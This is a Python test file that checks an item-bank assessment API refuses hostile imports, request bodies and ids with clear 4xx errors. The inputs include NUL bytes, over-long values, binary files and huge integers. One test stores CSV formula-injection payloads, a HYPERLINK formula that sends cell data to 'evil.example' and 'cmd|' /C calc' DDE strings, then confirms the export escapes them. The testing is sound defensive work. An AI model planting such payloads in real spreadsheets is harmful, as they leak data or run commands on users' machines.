"""Hostile input at the edge, on SQLite and PostgreSQL alike.

Item and standard imports (CSV and JSON), students, and every id in a path
or a query: NUL and other control characters, values longer than their
columns, binary files, mixed line endings, wrong JSON types, integers beyond
the database's range; and exported CSV cells that a spreadsheet would run.  Each is a 4xx whose message names the problem, and
nothing is written; the same on both databases (PostgreSQL refused NUL and
over-long values with a 500, SQLite stored them).
"""

from __future__ import annotations

import csv
import io
import json

import pytest
from sqlmodel import Session, func, select

from itembank.tables import Item, Standard, Student

P = "/api/v1"
ITEM_HEADER = "id,objective,interaction,stem,key,choice_A,choice_B\n"
STANDARD_HEADER = "framework,code,title,level,parent_code,description\n"


def _counts(world) -> dict[str, int]:
    with Session(world.engine) as s:
        return {t.__name__: s.exec(select(func.count()).select_from(t)).one() for t in (Standard, Item, Student)}


def _item_row(item_id="H1", objective="7.RP.A.2", stem="What is 2 + 2?") -> str:
    return f"{item_id},{objective},single_choice,{stem},A,4,5\n"


def _item_json(**changes) -> str:
    item = {
        "id": "H1",
        "objective": "7.RP.A.2",
        "interaction": "single_choice",
        "stem": "What is 2 + 2?",
        "choices": [{"id": "A", "text": "4"}, {"id": "B", "text": "5"}],
        "key": "A",
    }
    item.update(changes)
    return json.dumps({"items": [item]})


def _standard_json(**changes) -> str:
    standard = {"framework": "G9", "code": "9.A", "title": "Algebra", "level": "competency"}
    standard.update(changes)
    return json.dumps({"standards": [standard]})


HOSTILE_FILES = [
    # (name, route, file name, content, words the message must hold)
    ("item id with NUL", "items", "i.csv", ITEM_HEADER + _item_row("H\x001"), ["line 2", "id", "control character"]),
    ("stem with NUL", "items", "i.csv", ITEM_HEADER + _item_row(stem="2 +\x00 2?"), ["line 2", "stem", "control"]),
    ("item id with ESC", "items", "i.csv", ITEM_HEADER + _item_row("H\x1b1"), ["line 2", "id", "control character"]),
    ("item id of 65 characters", "items", "i.csv", ITEM_HEADER + _item_row("H" * 65), ["line 2", "id", "64"]),
    ("item id of 1000 characters", "items", "i.csv", ITEM_HEADER + _item_row("H" * 1000), ["line 2", "id", "64"]),
    ("item id with a space", "items", "i.csv", ITEM_HEADER + _item_row("H 1"), ["line 2", "id"]),
    ("objective of 1000 characters", "items", "i.csv", ITEM_HEADER + _item_row(objective="7" * 1000), ["line 2"]),
    (
        "mixed line endings, unknown objective",
        "items",
        "i.csv",
        ITEM_HEADER.replace("\n", "\r\n") + _item_row("H1") + _item_row("H2", objective="9.ZZ").replace("\n", "\r"),
        ["line 3", "objective", "9.ZZ"],
    ),
    ("binary", "items", "i.csv", bytes(range(256)) * 4, ["UTF-8"]),
    ("PNG", "standards", "s.csv", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(200), ["UTF-8"]),
    ("text with NUL bytes", "standards", "s.csv", STANDARD_HEADER.encode() + b"G9,9.A\x00,Alg\x00,competency,,\n", []),
    ("JSON item id a list", "items", "i.json", _item_json(id=["H1", "H2"]), ["items[0]", "id", "text"]),
    ("JSON item id a number", "items", "i.json", _item_json(id=17), ["items[0]", "id", "text"]),
    ("JSON item id an object", "items", "i.json", _item_json(id={"a": 1}), ["items[0]", "id", "text"]),
    ("JSON stem a list", "items", "i.json", _item_json(stem=["a"]), ["items[0]", "stem", "text"]),
    ("JSON item id with NUL", "items", "i.json", _item_json(id="H\x001"), ["items[0]", "id", "control"]),
    ("JSON item id of 65", "items", "i.json", _item_json(id="H" * 65), ["items[0]", "id", "64"]),
    ("JSON dok a string", "items", "i.json", _item_json(dok="two"), ["items[0]", "dok"]),
    ("JSON dok of 10**30", "items", "i.json", _item_json(dok=10**30), ["items[0]", "dok"]),
    ("JSON tolerance a list", "items", "i.json", _item_json(tolerance=[1]), ["items[0]", "tolerance"]),
    ("JSON choices an object", "items", "i.json", _item_json(choices={"A": "4"}), ["items[0]", "choices"]),
    ("JSON standard code a list", "standards", "s.json", _standard_json(code=["9.A"]), ["standards[0]", "code"]),
    ("JSON standard code with NUL", "standards", "s.json", _standard_json(code="9\x00A"), ["standards[0]", "code"]),
    ("JSON framework of 65", "standards", "s.json", _standard_json(framework="G" * 65), ["standards[0]", "framework"]),
    ("JSON title of 501", "standards", "s.json", _standard_json(title="t" * 501), ["standards[0]", "title", "500"]),
    (
        "standard code of 65",
        "standards",
        "s.csv",
        STANDARD_HEADER + f"G9,{'9' * 65},Algebra,competency,,\n",
        ["line 2", "code", "64"],
    ),
    (
        "standard title with NUL",
        "standards",
        "s.csv",
        STANDARD_HEADER + "G9,9.A,Alg\x00ebra,competency,,\n",
        ["line 2", "title", "control"],
    ),
    (
        "mixed line endings in standards, unknown parent",
        "standards",
        "s.csv",
        STANDARD_HEADER + "G9,9.A,Algebra,competency,,\r\nG9,9.A.1,Linear,indicator,9.Q,\r",
        ["line 3", "parent_code"],
    ),
]


@pytest.mark.parametrize("case", HOSTILE_FILES, ids=[c[0] for c in HOSTILE_FILES])
def test_hostile_import_files_are_refused_whole(client, world, as_user, case):
    _, route, name, content, words = case
    data = content if isinstance(content, bytes) else content.encode("utf-8")
    before = _counts(world)
    r = client.post(f"{P}/{route}/import", files={"file": (name, data)}, headers=as_user("admin"))
    assert 400 <= r.status_code < 500, r.text
    message = json.dumps(r.json()["detail"])
    assert all(word in message for word in words), message
    assert _counts(world) == before


@pytest.mark.parametrize(
    "body,field",
    [
        ({"external_id": "S\x00X"}, "external_id"),
        ({"external_id": "S" * 65}, "external_id"),
        ({"external_id": "S\x1bX"}, "external_id"),
        ({"external_id": "SX", "first_name": "A\x00"}, "first_name"),
        ({"external_id": "SX", "last_name": "L" * 101}, "last_name"),
        ({"external_id": "SX", "grade": 10**30}, "grade"),
    ],
)
def test_hostile_students_are_refused(client, world, as_user, body, field):
    before = _counts(world)
    r = client.post(f"{P}/students", json=body, headers=as_user("admin"))
    assert r.status_code == 422, r.text
    assert r.json()["detail"][0]["loc"][-1] == field
    assert _counts(world) == before


@pytest.mark.parametrize(
    "url,body",
    [
        ("/teachers", {"name": "Ada\x00"}),
        ("/teachers", {"name": "Ada", "email": "a" * 201}),
        ("/standards", {"framework": "G9", "code": "9\x00", "title": "x", "level": "competency"}),
        ("/standards", {"framework": "G9", "code": "9.B", "title": "x", "level": "objective", "parent_code": "9" * 65}),
        ("/classes", {"name": "7C\x00", "teacher_id": 1}),
        ("/classes", {"name": "7C", "teacher_id": 2**31}),
        ("/checks", {"student_id": 2**63, "standard": "7.RP.A.2"}),
        ("/checks", {"student_id": 1, "standard": "7.RP\x00"}),
        ("/checks", {"student_id": 1, "standard": "99999999999999999999999"}),
        ("/calibrations", {"item_ids": ["7RPA2-sc0\x00"]}),
        ("/responses", {"student_id": 1, "item_id": "7RPA2-cr0", "answer": "I\x00 divided"}),
        ("/responses", {"student_id": 1, "item_id": "x" * 65, "answer": "A"}),
        ("/users", {"username": "u", "password": "long enough", "role": "admin", "student_id": 2**40}),
    ],
)
def test_hostile_bodies_are_422_on_both_databases(client, world, as_user, url, body):
    before = _counts(world)
    r = client.post(f"{P}{url}", json=body, headers=as_user("admin"))
    assert r.status_code in (404, 422), r.text
    assert r.json()["detail"]
    assert _counts(world) == before


@pytest.mark.parametrize(
    "url",
    [
        "/classes/-11655571846667371020288",
        "/classes/11655571846667371020288",
        "/classes/2147483648",
        "/standards/9223372036854775808",
        "/students/99999999999/mastery",
        "/calibrations/99999999999/parameters",
        "/checks/99999999999",
        "/responses/9223372036854775808",
        "/teachers/99999999999",
        "/standards?offset=54541515470969753405751296",
        "/standards?offset=9223372036854775808",
        "/students?class_id=99999999999",
        "/classes?teacher_id=99999999999",
        "/standards?parent_id=99999999999",
        "/responses?student_id=99999999999",
        "/responses?check_id=99999999999",
        "/standards?framework=G7%00",
        "/items?standard=7.RP%00",
        "/items/7RPA2%00",
        "/items/" + "x" * 1000,
        "/classes/1/mastery?framework=G7%00",
        "/responses?item_id=7RPA2%00",
    ],
)
def test_ids_and_offsets_out_of_range_are_4xx(client, world, as_user, url):
    r = client.get(f"{P}{url}", headers=as_user("admin"))
    assert r.status_code in (404, 422), (url, r.status_code, r.text)
    assert r.json()["detail"]


def test_exported_csv_cells_never_run_as_formulas_and_round_trip(client, world, as_user):
    h = as_user("psychometrician")
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    made = client.post(
        f"{P}/items",
        json={
            "id": "F1",
            "stem": formula,
            "interaction": "single_choice",
            "choices": [{"id": "A", "text": "-3"}, {"id": "B", "text": "+cmd|' /C calc'!A0"}],
            "key": "A",
            "rationale": "@SUM(1+1)*cmd|' /C calc'!A0",
            "objective": "7.RP.A.2",
            "status": "operational",
        },
        headers=h,
    )
    assert made.status_code == 201, made.text
    exported = client.get(f"{P}/items/export?format=csv", headers=h)
    assert exported.status_code == 200
    rows = {row[0]: row for row in csv.reader(io.StringIO(exported.text))}
    header = rows["id"]
    f1 = dict(zip(header, rows["F1"]))
    assert f1["stem"] == "'" + formula
    assert f1["rationale"].startswith("'@SUM")
    assert f1["choice_A"] == "-3" and f1["choice_B"].startswith("'+cmd")
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for row in rows.values() for cell in row)
    before = client.get(f"{P}/items/F1", headers=h).json()
    again = client.post(
        f"{P}/items/import", files={"file": ("items.csv", exported.text.encode())}, headers=as_user("admin")
    )
    assert again.status_code == 200, again.text
    assert client.get(f"{P}/items/F1", headers=h).json() == before
